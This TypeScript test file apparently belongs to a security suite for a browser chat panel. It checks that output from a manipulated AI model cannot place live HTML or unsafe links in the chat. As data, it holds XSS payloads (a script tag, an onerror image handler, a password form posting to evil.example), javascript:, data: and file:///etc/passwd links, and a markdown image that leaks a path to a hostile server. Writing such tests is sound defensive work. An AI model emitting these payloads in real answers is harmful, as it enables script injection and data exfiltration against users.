/** What a model writes that was talked into something, in the panel itself. */
import { type BrowserAttack, type BrowserWorld, happens, modelSays } from './world';

/** How many elements of the chat match. */
const inChat = ({ panel }: BrowserWorld, selector: string) =>
  panel.value<number>(`document.querySelector('.talk').querySelectorAll(${JSON.stringify(selector)}).length`);

const html: Record<string, [string, string]> = {
  'a frame': ['iframe', '<iframe src="about:blank"></iframe>'],
  'a script': ['script', '<script>window.pwned = 1</script>'],
  'a handler of an event': ['[onerror]', '<img src="x" onerror="window.pwned = 1">'],
  'a form': ['form', '<form action="https://evil.example"><input type="password" name="p"></form>'],
  'a style over the panel': ['style', '<style>body { display: none }</style>'],
};

const links: Record<string, string> = {
  'javascript:': '[here](javascript:window.pwned=1)',
  'data:': '[here](data:text/html,hi)',
  'file:': '[here](file:///etc/passwd)',
};

export const byModel: BrowserAttack[] = [
  ...Object.entries(html).map(
    ([what, [selector, text]]): BrowserAttack => ({
      attacker: 'model output',
      name: `writes ${what} into its answer`,
      breach: 'an element of the model’s stands in the panel',
      guard: 'HTML of a model is text',
      promise: 'loading',
      async attempt(world) {
        await modelSays(world, text);
        return (await inChat(world, selector)) > 0;
      },
    }),
  ),
  ...Object.entries(links).map(
    ([what, text]): BrowserAttack => ({
      attacker: 'model output',
      name: `writes a link to ${what}`,
      breach: 'a link opens something else than the web',
      guard: 'links open only the web',
      promise: 'loading',
      async attempt(world) {
        await modelSays(world, text);
        return (await inChat(world, 'a:not([href^="http"]):not([href^="mailto"])')) > 0;
      },
    }),
  ),
  {
    attacker: 'model output',
    name: 'sends what it read in a picture’s address',
    breach: 'the picture is fetched, and its address tells a secret',
    guard: 'pictures of a model’s text are links',
    promise: 'loading',
    async attempt(world) {
      const path = `/track-${crypto.randomUUID()}`;
      await modelSays(world, `![seen](${new URL(path, world.hostile.url).href})`);
      return happens(() => world.hostile.asked.includes(path));
    },
  },
];
